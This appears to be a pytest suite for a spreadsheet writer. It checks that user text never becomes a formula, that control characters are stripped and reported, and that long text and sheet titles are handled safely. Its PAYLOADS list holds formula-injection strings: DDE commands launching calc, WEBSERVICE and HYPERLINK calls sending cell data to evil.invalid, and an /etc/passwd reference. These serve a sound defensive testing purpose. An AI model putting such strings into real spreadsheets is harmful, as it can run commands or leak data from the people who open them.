"""No text of a user becomes a formula, breaks the file or is cut without a word."""

from __future__ import annotations

import zipfile
from datetime import UTC, datetime
from io import BytesIO

import pytest
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape
from python_calamine import CalamineWorkbook

from lawgov.spreadsheets import safe
from lawgov.spreadsheets.overflow import LONG_TEXTS, pointer
from lawgov.spreadsheets.sheet import Book, Cell, Notice, Row, Sheet
from lawgov.spreadsheets.styles import Look
from lawgov.spreadsheets.writer import write
from tests.spreadsheets.workbooks import recalculated

PAYLOADS = [
    "=1+1",
    "=SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.invalid/?"&A1,"点击")',
    '=WEBSERVICE("http://evil.invalid/")',
    '=IMPORTXML("http://evil.invalid/","//a")',
    "='file:///etc/passwd'#$passwd.A1",
    '=DDE("cmd";"/C calc";"x")',
    "==1+1",
    "=",
    "+1+1",
    "+8613800000000",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2",
    "-cmd|' /C calc'!A0",
    "- 第一项",
    "--",
    "@SUM(1+1)",
    "@某人",
    "@",
    "＝1＋1",
    "＝SUM（A1）",
    "＋１",
    "－１",
    "－整改中",
    "＠SUM(1)",
    "﹦1+1",
    "﹢1",
    "﹣1",
    "﹫SUM(1)",
    "−1",
    "\t=1+1",
    "\t普通文字",
    "\r=1+1",
    "\r\n=1+1",
    "\n=1+1",
    "\n第二行",
    " =1+1",
    "\u3000=1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u200d＝1",
    "'=1+1",
    '"=1+1"',
    "{=1+1}",
    "#REF!",
    "#N/A",
    "#DIV/0!",
    "TRUE",
    "FALSE",
    "1e5",
    "007",
    "2023-04-14",
    "50%",
    "_x0041_",
    "_x000D_=1+1",
    "a_x005F_x0041_",
    "<v>1</v>",
    "]]>&amp;<f>1+1</f>",
    "&#61;1+1",
    "前后有空格 ",
    "  缩进两格",
    "第一行\n第二行\n",
    "第一行\r\n第二行",
    "回车\r居中",
    "\u2028=1+1",
    "𠮷野家",
    "👍=1+1",
    "مرحبا",
    "\u202e=1+1",
]

DANGEROUS = [text for text in PAYLOADS if safe.looks_like_formula(text)]


def _book(*texts: str) -> Book:
    rows = tuple(Row((Cell(text, Look()),), 20) for text in texts)
    return Book("试验", datetime(2023, 4, 14, 8, tzinfo=UTC), (Sheet("表", (30,), rows),))


def _written(*texts: str) -> tuple[BytesIO, list[Notice]]:
    file = BytesIO()
    notices = write(_book(*texts), file)
    file.seek(0)
    return file, notices


def test_there_are_enough_payloads() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 60


def test_no_payload_becomes_a_formula_and_each_survives_unchanged() -> None:
    file, notices = _written(*PAYLOADS)
    sheet = load_workbook(file)["表"]
    assert notices == []
    for row, text in enumerate(PAYLOADS, 1):
        cell = sheet.cell(row, 1)
        assert cell.data_type == "s", text
        assert unescape(cell.value) == text  # openpyxl leaves _x005F_ to its caller
        assert bool(cell.quotePrefix) is (text in DANGEROUS), text


def test_the_second_reader_finds_the_same_text() -> None:
    file, _ = _written(*PAYLOADS)
    rows = CalamineWorkbook.from_filelike(file).get_sheet_by_index(0).to_python()
    assert [row[0] for row in rows] == PAYLOADS


def test_libreoffice_works_out_none_of_them(tmp_path) -> None:
    sheet = recalculated(_book(*DANGEROUS), tmp_path)["表"]
    for row, text in enumerate(DANGEROUS, 1):
        value = sheet.cell(row, 1).value
        assert isinstance(value, str), text
        assert unescape(value).split() == text.split()


def test_no_part_of_the_file_holds_a_formula_or_a_link() -> None:
    file, _ = _written(*PAYLOADS)
    with zipfile.ZipFile(file) as archive:
        assert not [name for name in archive.namelist() if "external" in name.lower()]
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
        relations = b"".join(archive.read(n) for n in archive.namelist() if n.endswith(".rels"))
    assert "<f>" not in sheet
    assert "hyperlink" not in sheet
    assert b"External" not in relations


@pytest.mark.parametrize("text", ["正文", "１２３", "（一）", "第=行", "a-b", "", "3、整改", "■"])
def test_ordinary_text_gets_no_prefix(text: str) -> None:
    assert not safe.looks_like_formula(text)


@pytest.mark.parametrize(
    ("text", "left", "removed"),
    [
        ("a\x00b", "ab", 1),
        ("\x00=1+1", "=1+1", 1),
        ("\x01\x08\x0b\x0c\x0e\x1f正文", "正文", 6),
        ("坏\ud800字\uffff", "坏字", 2),
        ("制表\t换行\n回车\r都留", "制表\t换行\n回车\r都留", 0),
    ],
)
def test_control_characters_go_and_are_counted(text: str, left: str, removed: int) -> None:
    assert safe.clean(text) == (left, removed)


def test_the_writer_reports_what_it_took_away_and_still_guards_the_rest() -> None:
    file, notices = _written("好", "\x00=1+1")
    cell = load_workbook(file)["表"]["A2"]
    assert (cell.value, cell.data_type, bool(cell.quotePrefix)) == ("=1+1", "s", True)
    assert [(n.sheet, n.cell, n.code) for n in notices] == [("表", "A2", "control_characters")]
    assert "1个" in notices[0].message


@pytest.mark.parametrize("character", ["长", "a", "𠮷"])
def test_text_beyond_the_limit_goes_on_in_a_sheet_of_its_own_and_is_reported(character) -> None:
    text = character * 70_000
    file, notices = _written("短", text)
    book = load_workbook(file)
    head = book["表"]["A2"].value
    assert safe.units(head) <= safe.CELL_LIMIT
    assert head.endswith(pointer())
    rest = [row[3] for row in book[LONG_TEXTS].iter_rows(min_row=2, values_only=True)]
    assert head.removesuffix(pointer()) + "".join(rest) == text
    assert all(safe.units(part) <= safe.CELL_LIMIT for part in rest)
    assert [row[:3] for row in book[LONG_TEXTS].iter_rows(min_row=2, values_only=True)] == [
        ("表", "A2", number) for number in range(2, len(rest) + 2)
    ]
    assert [n.code for n in notices if n.code == "long_text"] == ["long_text"]


def test_text_of_exactly_the_limit_stays_whole() -> None:
    text = "长" * safe.CELL_LIMIT
    file, notices = _written(text)
    book = load_workbook(file)
    assert book["表"]["A1"].value == text
    assert book.sheetnames == ["表"]
    assert notices == []


def test_parts_never_cut_a_character_in_two() -> None:
    assert safe.parts("a𠮷b", 2) == ["a", "𠮷", "b"]
    assert safe.parts("", 5) == [""]
    with pytest.raises(ValueError, match="room"):
        safe.parts("a", 1)


@pytest.mark.parametrize(
    ("wanted", "title"),
    [
        ("自评表", "自评表"),
        ("a/b\\c:d*e?f[g]", "a b c d e f g"),
        ("'引号'", "引号"),
        ("", "表"),
        ("///", "表"),
        ("History", "History_"),
        ("长" * 40, "长" * 31),
        ("𠮷" * 20, "𠮷" * 15),
        ("换\n行\x00", "换 行"),
        ("=1+1", "=1+1"),
    ],
)
def test_sheet_titles_are_made_acceptable(wanted: str, title: str) -> None:
    assert safe.sheet_title(wanted) == title
    assert safe.units(safe.sheet_title(wanted)) <= safe.TITLE_LIMIT


def test_sheet_titles_differ_without_regard_to_case() -> None:
    assert safe.sheet_title("Ledger", ["ledger"]) == "Ledger（2）"
    assert safe.sheet_title("表", ["表", "表（2）"]) == "表（3）"
    assert safe.sheet_title("长" * 31, ["长" * 31]) == "长" * 28 + "（2）"


def test_lists_that_validations_cannot_hold_are_told_apart() -> None:
    assert safe.list_literal(["是", "否"]) == '"是,否"'
    assert safe.list_literal(["a,b"]) is None
    assert safe.list_literal(['引"号']) is None
    assert safe.list_literal(["长" * 255]) is not None
    assert safe.list_literal(["长" * 256]) is None
